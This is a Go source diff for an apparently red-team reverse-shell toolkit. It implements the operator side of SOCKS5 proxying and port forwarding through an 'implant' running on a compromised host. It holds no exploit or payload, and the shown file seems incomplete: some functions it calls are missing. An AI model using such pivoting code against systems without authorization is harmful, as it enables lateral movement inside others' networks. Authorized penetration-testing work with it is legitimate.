@@ -0,0 +1,504 @@
+// Package pivot - SOCKS5 through simpleshell
+package pivot
+
+/*
+ * pivot.go
+ * Connections made by simpleshell
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"cmp"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"math/rand/v2"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/magisterquis/curlrevshell/lib/opshell"
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
+)
+
+const (
+	// DefaultMaxStreams is the default maximum number of connections
+	// through the implant at once.
+	DefaultMaxStreams = 64
+
+	// DefaultStreamTimeout is the default amount of time to wait for the
+	// implant to make a connection.
+	DefaultStreamTimeout = 30 * time.Second
+)
+
+// Log messages and keys.
+const (
+	LMConnected      = "Pivot connected"
+	LMDisconnected   = "Pivot disconnected"
+	LMForwardClosed  = "Forward closed"
+	LMForwardFailed  = "Forward failed"
+	LMForwardStarted = "Forward started"
+	LMListening      = "SOCKS5 listener started"
+	LMRejected       = "Pivot rejected"
+	LMSOCKSError     = "SOCKS5 error"
+	LMStreamFailed   = "Pivot connection failed"
+	LMStreamFinished = "Pivot connection finished"
+	LMStreamStarted  = "Pivot connection started"
+	LMUnknownStream  = "Unknown pivot connection"
+
+	LKClient      = "client"
+	LKDestination = "destination"
+	LKDuration    = "duration"
+	LKError       = "error"
+	LKForward     = "forward"
+	LKFromDest    = "bytes_from_destination"
+	LKID          = "id"
+	LKListenAddr  = "address"
+	LKRemote      = "remote"
+	LKToDest      = "bytes_to_destination"
+)
+
+const (
+	// logColor is used for happy logs.
+	logColor = opshell.ColorGreen
+	// errColor is used for unhappy logs.
+	errColor = opshell.ColorRed
+)
+
+var (
+	// ErrNoImplant is returned by Pivot.Dial when no implant is connected.
+	ErrNoImplant = errors.New("no implant connected")
+
+	// ErrTooManyStreams is returned by Pivot.Dial when Pivot.MaxStreams
+	// connections are already open.
+	ErrTooManyStreams = errors.New("too many connections")
+
+	// ErrTimeout is returned by Pivot.Dial when the implant doesn't make
+	// a connection within Pivot.StreamTimeout.
+	ErrTimeout = errors.New("timed out waiting for implant")
+)
+
+// DialError is returned by Pivot.Dial when the implant couldn't connect.
+// It holds the implant's error message.
+type DialError string
+
+// Error implements the error interface.
+func (err DialError) Error() string { return string(err) }
+
+// Pivot makes TCP connections via an implant running simpleshell.GoPivot,
+// for SOCKS5 and port forwards.  The implant requests instructions from
+// simpleshell.PivotPath, handled by ConnectControl, and makes a request per
+// connection, handled by ConnectStream.
+type Pivot struct {
+	// MaxStreams is the maximum number of connections at once.  If unset,
+	// DefaultMaxStreams is used.  It must not be changed after the first
+	// call to Dial.
+	MaxStreams int
+
+	// StreamTimeout is how long to wait for the implant to make a
+	// connection.  If unset, DefaultStreamTimeout is used.
+	StreamTimeout time.Duration
+
+	sl  *slog.Logger
+	och chan<- opshell.CLine
+
+	mu       sync.Mutex
+	ctrl     *control /* Nil if no implant is connected. */
+	pending  map[string]chan<- streamResult
+	nStreams int
+	forwards map[int]*forward
+	lastFwd  int /* Last forward number. */
+}
+
+// control is a connected implant's request for instructions.
+type control struct {
+	w    io.Writer
+	rc   *http.ResponseController
+	addr string
+	done chan struct{}
+	once sync.Once
+}
+
+// close closes c.done, once.
+func (c *control) close() { c.once.Do(func() { close(c.done) }) }
+
+// streamResult is the result of asking the implant for a connection.
+type streamResult struct {
+	sc        *streamConn
+	listening string /* Address for a remote forward. */
+	err       error
+}
+
+// New returns a new Pivot, which logs to sl and sends messages for the user
+// to och.
+func New(sl *slog.Logger, och chan<- opshell.CLine) *Pivot {
+	return &Pivot{
+		sl:       sl,
+		och:      och,
+		pending:  make(map[string]chan<- streamResult),
+		forwards: make(map[int]*forward),
+	}
+}
+
+// ConnectControl sends instructions to an implant via w until ctx is done or
+// sending fails.  Only one implant may be connected at once.
+func (p *Pivot) ConnectControl(
+	ctx context.Context,
+	sl *slog.Logger,
+	addr string,
+	w http.ResponseWriter,
+) {
+	/* Make sure we're the only one. */
+	c := &control{
+		w:    w,
+		rc:   http.NewResponseController(w),
+		addr: addr,
+		done: make(chan struct{}),
+	}
+	p.mu.Lock()
+	if nil != p.ctrl {
+		other := p.ctrl.addr
+		p.mu.Unlock()
+		sl.Error(LMRejected, LKError, "already connected")
+		p.errorf(addr, "Pivot already connected from %s", other)
+		http.Error(w, "", http.StatusConflict)
+		return
+	}
+	p.ctrl = c
+	if err := c.rc.Flush(); nil != err {
+		c.close()
+	}
+	p.mu.Unlock()
+	sl.Info(LMConnected)
+	p.logf(addr, "Pivot connected")
+
+	/* Wait for something to go wrong. */
+	select {
+	case <-ctx.Done():
+	case <-c.done:
+	}
+
+	/* Nobody's getting a connection now. */
+	p.mu.Lock()
+	p.ctrl = nil
+	for id, ch := range p.pending {
+		ch <- streamResult{err: ErrNoImplant}
+		delete(p.pending, id)
+	}
+	p.mu.Unlock()
+	sl.Info(LMDisconnected)
+	p.errorf(addr, "Pivot disconnected")
+	p.dropRemoteForwards("pivot disconnected")
+}
+
+// ConnectStream handles a request from the implant for a connection or
+// with the result of an instruction.  r is the data read from the
+// connection and data sent to the connection is written to w.  The
+// simpleshell.Pivot*Header headers in h say what the request is for.
+// ConnectStream returns when the connection's closed or ctx is done.
+func (p *Pivot) ConnectStream(
+	ctx context.Context,
+	sl *slog.Logger,
+	w http.ResponseWriter,
+	r io.Reader,
+	id string,
+	h http.Header,
+) {
+	/* Connections for remote forwards aren't waited for. */
+	if fid := h.Get(simpleshell.PivotForwardHeader); "" != fid {
+		p.acceptRemote(ctx, sl, w, r, fid)
+		return
+	}
+
+	/* Work out who's waiting for this one. */
+	p.mu.Lock()
+	ch, ok := p.pending[id]
+	delete(p.pending, id)
+	p.mu.Unlock()
+	if !ok {
+		sl.Error(LMUnknownStream)
+		http.Error(w, "", http.StatusNotFound)
+		return
+	}
+	if s := h.Get(simpleshell.PivotErrorHeader); "" != s {
+		ch <- streamResult{err: DialError(s)}
+		return
+	}
+	if s := h.Get(simpleshell.PivotListeningHeader); "" != s {
+		ch <- streamResult{listening: s}
+		return
+	}
+
+	/* Hand it off and wait for it to be closed. */
+	sc, err := p.startStream(w, r)
+	if nil != err {
+		ch <- streamResult{err: err}
+		return
+	}
+	ch <- streamResult{sc: sc}
+	sc.wait(ctx)
+}
+
+// startStream tells the implant we're ready to proxy between r and w and
+// returns a streamConn wrapping them.  streamConn.wait should be called
+// before returning from the handler.
+func (p *Pivot) startStream(
+	w http.ResponseWriter,
+	r io.Reader,
+) (*streamConn, error) {
+	/* Under HTTP/2, requests are always full duplex. */
+	rc := http.NewResponseController(w)
+	err := rc.EnableFullDuplex()
+	if errors.Is(err, http.ErrNotSupported) {
+		err = nil
+	}
+	if nil == err {
+		err = rc.Flush()
+	}
+	if nil != err {
+		return nil, fmt.Errorf("starting stream: %w", err)
+	}
+	return &streamConn{
+		r:      r,
+		w:      w,
+		rc:     rc,
+		closed: make(chan struct{}),
+	}, nil
+}
+
+// Dial asks the implant to connect to addr, which must be a host:port.
+// The returned connection should be closed when no longer needed.
+func (p *Pivot) Dial(
+	ctx context.Context,
+	addr string,
+) (io.ReadWriteCloser, error) {
+	res := p.ask(
+		ctx,
+		simpleshell.PivotConnect,
+		strconv.FormatUint(rand.Uint64(), 36),
+		addr,
+		true,
+	)
+	if nil != res.err {
+		return nil, res.err
+	}
+	return res.sc, nil
+}
+
+// ask sends an instruction with an ID and an address to the implant and
+// waits for the implant's response, via ConnectStream.  If stream is true,
+// the instruction is to make a connection, which counts towards MaxStreams
+// and which will be in the returned streamResult unless there's an error.
+func (p *Pivot) ask(
+	ctx context.Context,
+	verb string,
+	id string,
+	addr string,
+	stream bool,
+) streamResult {
+	/* Ask the implant. */
+	ch := make(chan streamResult, 1)
+	if stream && !p.reserveStream() {
+		return streamResult{err: ErrTooManyStreams}
+	}
+	fail := func(err error) streamResult {
+		if stream {
+			p.releaseStream()
+		}
+		return streamResult{err: err}
+	}
+	p.mu.Lock()
+	p.pending[id] = ch
+	err := p.instruct(verb, id, addr)
+	if nil != err {
+		delete(p.pending, id)
+	}
+	p.mu.Unlock()
+	if nil != err {
+		return fail(err)
+	}
+
+	/* Wait for it. */
+	timer := time.NewTimer(cmp.Or(p.StreamTimeout, DefaultStreamTimeout))
+	defer timer.Stop()
+	var res streamResult
+	select {
+	case res = <-ch:
+	case <-timer.C:
+		res = p.abandon(id, ch, ErrTimeout)
+	case <-ctx.Done():
+		res = p.abandon(id, ch, ctx.Err())
+	}
+
+	/* Make sure we got what we asked for. */
+	if nil != res.sc && !stream {
+		res.sc.Close()
+		res.sc = nil
+		res.err = errors.New("unexpected connection")
+	} else if nil == res.sc && stream && nil == res.err {
+		res.err = errors.New("no connection")
+	}
+	if nil != res.err {
+		return fail(res.err)
+	}
+	if stream {
+		res.sc.release = p.releaseStream
+	}
+	return res
+}
+
+// instruct sends an instruction to the implant.  The instruction is made
+// from args separated by spaces.  p.mu must be held.
+func (p *Pivot) instruct(args ...string) error {
+	if nil == p.ctrl {
+		return ErrNoImplant
+	}
+	_, err := io.WriteString(p.ctrl.w, strings.Join(args, " ")+"\n")
+	if nil == err {
+		err = p.ctrl.rc.Flush()
+	}
+	if nil != err {
+		p.ctrl.close()
+		return fmt.Errorf("sending instructions: %w", err)
+	}
+	return nil
+}
+
+// abandon stops waiting for the response with the given ID and returns a
+// streamResult with err.  If ConnectStream has already claimed the
+// response, abandon waits for and returns ConnectStream's result instead.
+func (p *Pivot) abandon(
+	id string,
+	ch <-chan streamResult,
+	err error,
+) streamResult {
+	p.mu.Lock()
+	_, waiting := p.pending[id]
+	delete(p.pending, id)
+	p.mu.Unlock()
+	if waiting {
+		return streamResult{err: err}
+	}
+	return <-ch
+}
+
+// reserveStream notes that a connection's about to be used.  It returns
+// false if there's already MaxStreams connections.
+func (p *Pivot) reserveStream() bool {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	if cmp.Or(p.MaxStreams, DefaultMaxStreams) <= p.nStreams {
+		return false
+	}
+	p.nStreams++
+	return true
+}
+
+// releaseStream notes that a connection's no longer in use.
+func (p *Pivot) releaseStream() {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	p.nStreams--
+}
+
+// logf sends a happy message to the user.
+func (p *Pivot) logf(addr, format string, a ...any) {
+	p.sendLine(logColor, addr, format, a...)
+}
+
+// errorf sends an unhappy message to the user.
+func (p *Pivot) errorf(addr, format string, a ...any) {
+	p.sendLine(errColor, addr, format, a...)
+}
+
+// sendLine sends a line to the user, prefixed by addr if addr isn't empty.
+func (p *Pivot) sendLine(
+	color opshell.Color,
+	addr string,
+	format string,
+	a ...any,
+) {
+	l := fmt.Sprintf(format, a...)
+	if "" != addr {
+		l = "[" + addr + "] " + l
+	}
+	p.och <- opshell.CLine{Color: color, Line: l}
+}
+
+// streamConn is a connection made by the implant.
+type streamConn struct {
+	r  io.Reader
+	w  io.Writer
+	rc *http.ResponseController
+
+	mu     sync.Mutex /* Held while writing. */
+	dmu    sync.Mutex /* Held while using gone or setting deadlines. */
+	gone   bool       /* ConnectStream returned. */
+	closed chan struct{}
+	once   sync.Once
+
+	release func() /* Called on close, if not nil. */
+}
+
+// Read reads from the connection.
+func (sc *streamConn) Read(b []byte) (int, error) { return sc.r.Read(b) }
+
+// Write writes to the connection.
+func (sc *streamConn) Write(b []byte) (int, error) {
+	sc.mu.Lock()
+	defer sc.mu.Unlock()
+	select {
+	case <-sc.closed:
+		return 0, os.ErrClosed
+	default:
+	}
+	sc.dmu.Lock()
+	gone := sc.gone
+	sc.dmu.Unlock()
+	if gone {
+		return 0, os.ErrClosed
+	}
+	n, err := sc.w.Write(b)
+	if nil != err {
+		return n, err
+	}
+	return n, sc.rc.Flush()
+}
+
+// Close closes the connection.  It always returns nil.
+func (sc *streamConn) Close() error {
+	sc.once.Do(func() {
+		close(sc.closed)
+		/* Unstick a blocked Write. */
+		sc.dmu.Lock()
+		if !sc.gone {
+			sc.rc.SetWriteDeadline(time.Now())
+		}
+		sc.dmu.Unlock()
+		if nil != sc.release {
+			sc.release()
+		}
+	})
+	return nil
+}
+
+// wait waits for sc to be closed or ctx to be done.  After wait returns, sc
+// doesn't write to its http.ResponseWriter.
+func (sc *streamConn) wait(ctx context.Context) {
+	select {
+	case <-ctx.Done():
+	case <-sc.closed:
+	}
+	sc.dmu.Lock()
+	sc.gone = true
+	sc.dmu.Unlock()
+	sc.mu.Lock()
+	sc.mu.Unlock() /* Wait for an in-progress Write. */
+}